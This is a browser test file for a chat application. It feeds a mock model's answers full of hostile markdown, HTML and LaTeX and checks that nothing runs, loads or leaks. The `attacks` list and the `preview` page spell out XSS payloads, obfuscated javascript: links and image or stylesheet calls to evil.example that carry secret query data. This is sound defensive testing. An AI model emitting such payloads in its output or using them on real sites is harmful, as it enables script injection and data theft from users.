import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { answers, startProvider, writeConfig } from '../kit/ai/provider.ts'
import { startApp, type TestApp } from '../kit/app.ts'
import { describeWith } from '../kit/parts/with-parts.ts'
import { openChat } from '../kit/web/chat.ts'

const EVIL = 'https://evil.example'

/** Hostile output of a model, by its purpose: to load, run or fake something. */
const attacks = {
  pictures: [
    `![chart](${EVIL}/1.png?q=secret)`,
    `![chart][ref]\n\n[ref]: ${EVIL}/2.png`,
    '![x](//evil.example/3.png)',
    '![x](http://evil.example/4.png)',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIj48L3N2Zz4=)',
    '![x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)',
    `[![badge](${EVIL}/5.svg)](${EVIL}/6)`,
    '![x](blob:https://evil.example/7)',
    `![x](\\\\evil.example\\8.png)`,
    `![a](${EVIL}/9.png "title")`,
  ],
  links: [
    '[click](javascript:window.hacked=1)',
    '[click](JaVaScRiPt:window.hacked=1)',
    '[click](data:text/html,<script>window.hacked=1</script>)',
    '[click](vbscript:msgbox(1))',
    '[click](file:///etc/passwd)',
    '[click](java\tscript:window.hacked=1)',
    '[click](&#106;avascript:window.hacked=1)',
    `[click](https://user:pass@evil.example/)`,
    '<javascript:window.hacked=1>',
    '[click](//evil.example/10)',
    `[www.bank.example](${EVIL}/11)`,
    `[read on](${EVIL}/12?${'q'.repeat(100)})`,
  ],
  markup: [
    '<script>window.hacked=1</script>',
    '<img src=x onerror="window.hacked=1">',
    '<svg onload="window.hacked=1"></svg>',
    `<iframe src="${EVIL}/13"></iframe>`,
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    `<link rel="stylesheet" href="${EVIL}/14.css">`,
    `<style>@import "${EVIL}/15.css"; body { display: none }</style>`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}/16">`,
    `<base href="${EVIL}/">`,
    `<form action="${EVIL}/17"><button autofocus>Go</button></form>`,
    `<object data="${EVIL}/18"></object>`,
    `<video src="${EVIL}/19" autoplay></video>`,
    '<details open ontoggle="window.hacked=1">x</details>',
    '<a href="javascript:window.hacked=1" style="position:fixed;inset:0">x</a>',
    '<div id="app">taken over</div>',
  ],
  formulas: [
    '$$\\href{javascript:window.hacked=1}{x}$$',
    `$$\\includegraphics{${EVIL}/20.png}$$`,
    '$$\\htmlData{x=y}{z} \\htmlStyle{position:fixed;inset:0}{z} \\htmlId{app}{z}$$',
    '$$\\def\\x{\\x\\x}\\x$$',
    '$$\\rule{99999em}{99999em}$$',
    `$$\\url{${EVIL}/21}$$`,
    '$<img src=x onerror=window.hacked=1>$',
  ],
  code: [
    '```html"onmouseover="window.hacked=1\nx\n```',
    '```<script>\nwindow.hacked=1\n```',
    '`<script>window.hacked=1</script>`',
  ],
}

/** A page by a model that tries all attacks at once. */
const preview = `<style>@import "${EVIL}/30.css"; body { background: url(${EVIL}/31.png) }</style>
<script>parent.postMessage('hacked', '*')</script>
<img src=x onerror="parent.postMessage('hacked', '*')"><svg onload="parent.postMessage('hacked', '*')"></svg>
<img src="${EVIL}/32.png"><iframe src="${EVIL}/33"></iframe><iframe srcdoc="<script>top.postMessage('hacked','*')</script>"></iframe>
<meta http-equiv="refresh" content="0;url=${EVIL}/34"><link rel="preconnect" href="${EVIL}"><link rel="prefetch" href="${EVIL}/35">
<base href="${EVIL}/"><form action="${EVIL}/36"><button>x</button></form><video src="${EVIL}/37" autoplay></video>
<object data="${EVIL}/38"></object><embed src="${EVIL}/39"><p>Harmless words</p>`

describeWith('chromium')('what a model writes', () => {
  const resources = new AsyncDisposableStack()
  let svc: TestApp
  let upstream: Awaited<ReturnType<typeof startProvider>>
  let chat: Awaited<ReturnType<typeof openChat>>

  beforeAll(async () => {
    upstream = resources.use(await startProvider())
    const config = resources.use(await writeConfig(upstream.url))
    svc = resources.use(await startApp({ AI_CONFIG: config.file }))
    chat = resources.use(await openChat(svc, 'ada'))
  })
  afterAll(() => resources.disposeAsync())

  async function shown(text: string): Promise<Page> {
    const { page } = chat
    await page.goto('/chat')
    upstream.behave = answers(`${text}\n\nThe end.`, [`${text}\n\nThe end.`])
    chat.requests.length = 0
    chat.complaints.length = 0
    await chat.sendQuestion('Attack')
    await page.getByText('The end.').waitFor()
    await chat.answered()
    return page
  }

  /** Requests that left the service. */
  const foreign = () =>
    chat.requests.map(({ url }) => url).filter((url) => !/^(data:|blob:)/.test(url) && !url.startsWith(svc.url))

  const isHacked = (page: Page) => page.evaluate('"hacked" in globalThis')

  /** Elements of an answer that could load or run something. */
  const dangerous = (page: Page) =>
    page.evaluate(`[...document.querySelectorAll('.markdown *')]
      .filter((element) => /^(script|iframe|object|embed|form|base|meta|link|style|video|audio)$/i.test(element.tagName)
        || [...element.attributes].some(({ name, value }) => name.startsWith('on') || (/^(href|src)$/.test(name) && !/^(https:|mailto:|data:image.(png|jpeg|gif|webp|avif))/.test(value))))
      .map((element) => element.outerHTML)`)

  test.each(Object.entries(attacks))('%s neither load, run nor change anything', async (_, texts) => {
    const page = await shown(texts.join('\n\n'))

    for (const link of await page.locator('.markdown a').all()) await link.dispatchEvent('mouseover')
    expect(await dangerous(page)).toEqual([])
    expect(await isHacked(page)).toBe(false)
    expect(foreign()).toEqual([])
    expect(chat.complaints).toEqual([])
    expect(await page.locator('#app').count()).toBe(1)
    expect(page.url()).toContain(svc.url)
  })

  test('a deceptive or data-carrying link shows its target and asks first', async () => {
    const page = await shown(attacks.links.slice(-2).join('\n\n'))

    expect(await page.locator('.markdown .host').allTextContents()).toEqual([' (evil.example)', ' (evil.example)'])
    await page.getByRole('link', { name: 'www.bank.example' }).click()
    const dialog = page.getByRole('alertdialog', { name: 'Open this address?' })
    expect(await dialog.textContent()).toContain(`${EVIL}/11`)
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    expect(page.context().pages()).toHaveLength(1)
    expect(foreign()).toEqual([])
  })

  test('a page of a model opens on demand in an inert frame', async () => {
    const page = await shown(`\`\`\`html\n${preview}\n\`\`\``)
    await page.evaluate("addEventListener('message', ({ data }) => { if (data === 'hacked') globalThis.hacked = 1 })")
    expect(await page.locator('iframe').count()).toBe(0)

    await page.getByRole('button', { name: 'Preview' }).click()

    const frame = page.frameLocator('iframe')
    await frame.getByText('Harmless words').waitFor()
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts')
    expect(await isHacked(page)).toBe(false)
    expect(await frame.locator('script, link, meta, base, iframe, object, embed, form').count()).toBe(0)
    expect(page.frames().map((each) => new URL(each.url()).pathname)).toEqual([
      new URL(page.url()).pathname,
      '/chat-preview',
    ])
    // The policy of the frame names each picture that it did not let through; nothing went out.
    expect(
      chat.requests.filter(({ url }) => url.startsWith(EVIL) && !url.includes('/3')).map(({ url }) => url),
    ).toEqual([])
  })
})
